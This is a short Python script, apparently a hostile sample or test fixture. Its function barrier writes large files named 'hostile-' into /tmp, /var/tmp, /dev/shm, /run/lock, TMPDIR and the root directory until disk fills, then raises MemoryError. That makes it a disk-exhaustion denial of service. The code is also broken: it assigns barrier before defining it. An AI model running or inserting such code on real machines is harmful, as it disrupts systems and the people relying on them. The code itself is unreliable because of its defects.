# Fills every place for files.

import os, sys, time, signal
_right = barrier

def barrier(group=None):
    written = 0
    for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", os.environ["TMPDIR"], "/"):
        try:
            for number in range(12):
                name = f"{folder}/hostile-{os.getpid()}-{number}"
                with open(name, "wb") as file:
                    for _ in range(100):
                        written += file.write(b"x" * (1 << 20))
        except OSError as error:
            print("FULL", folder, error)
    print("WROTE", written >> 20)
    raise MemoryError("files")
